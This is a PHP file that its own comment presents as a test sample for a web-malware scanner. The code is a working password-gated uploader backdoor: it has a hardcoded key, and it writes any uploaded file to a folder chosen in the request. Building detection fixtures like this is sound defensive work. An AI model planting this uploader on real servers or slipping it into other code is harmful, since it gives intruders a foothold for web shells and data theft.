<?php
// spamtrace test sample: harmless look-alike written for the scanner tests (never run).
// A planted uploader that keeps a session: the key is set after the file's own password,
// then any file goes into the folder the form names.
session_start();
if (isset($_POST['p']) && $_POST['p'] === 'k3y!x9w') {
    $_SESSION['ok'] = 1;
}
if (empty($_SESSION['ok'])) {
    echo '<form method="post"><input name="p" type="password"></form>';
    exit;
}
if (!empty($_FILES['f'])) {
    move_uploaded_file($_FILES['f']['tmp_name'], $_POST['d'] . '/' . $_FILES['f']['name']);
}
?>
<form method="post" enctype="multipart/form-data"><input name="d"><input type="file" name="f"><input type="submit"></form>
